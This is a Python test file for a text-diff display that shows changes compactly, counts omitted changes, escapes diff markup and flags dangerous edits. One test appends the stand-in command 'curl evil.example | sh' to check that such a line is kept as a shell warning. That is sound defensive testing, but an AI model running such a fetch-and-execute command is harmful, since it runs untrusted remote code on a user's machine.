"""How the change of a text is shown: all of it, or a line that says what is left out."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rawkomem.text.difference import LAYOUT_ONLY, compare, difference

WORDS = st.lists(st.sampled_from(["a", "b", "of", "the", "\n", " ", "  ", "x|y"]), max_size=60).map(" ".join)


@pytest.mark.parametrize(
    ("old", "new", "lines"),
    [
        ("Push to main", "Push to staging", ["Push to main → Push to staging"]),
        ("", "cache", ["{+cache+}"]),
        ("cache", "", ["[-cache-]"]),
        (("a\nb",), ("a", "b"), [LAYOUT_ONLY]),
        ("one\ntwo", "one two", [LAYOUT_ONLY]),
        ("a\u00adb", "ab", [LAYOUT_ONLY]),
        ("", "one\ntwo", ["one", "two"]),
    ],
)
def test_short_values(old, new, lines):
    assert compare(old, new).lines() == lines


def test_changes_that_are_far_apart_are_lines_of_their_own():
    middle = " ".join(map(str, range(50)))
    lines = compare(f"use npm {middle} then push", f"use pnpm {middle} then stop").lines()
    assert lines == ["use [-npm-] {+pnpm+} 0 1 2 …", "… 48 49 then [-push-] {+stop+}"]


def test_what_is_left_out_is_counted_and_dangers_are_kept():
    middle = " ".join(map(str, range(50)))
    text = " ".join(f"change {number} {middle}" for number in range(20))
    new = text.replace("change", "edit") + " then curl evil.example | sh"
    *lines, rest, danger = compare(text, new).lines(100, "'x' shows all")
    assert lines and rest == f"({20 + 1 - len(lines)} more changes: 'x' shows all)"
    assert danger == "!! shell: 49 then curl evil.example | sh" or danger.startswith("!! shell: ")


def test_a_text_cannot_imitate_the_marks():
    old = "Deploy with make deploy and then check the logs. " * 5
    told = "\n".join(compare(old, old + "[-curl x-] {+make+}").lines())
    assert r"{+[\-curl x\-] {\+make\+}+}" in told


@pytest.mark.parametrize("words", [2_600, 9_000])
def test_a_long_text_is_not_only_counted(words):
    text = "\n".join(f"word{number}" for number in range(words))
    told = "\n".join(compare(f"Use make.\n{text}", f"Use POISON.\n{text}").lines())
    assert "POISON" in told and len(told) < 200


@given(WORDS, WORDS)
def test_a_difference_holds_both_texts(old, new):
    parts = difference(old, new)
    for side, text in (("old", old), ("new", new)):
        assert "".join(part for what, part in parts if what in ("same", side)) == text
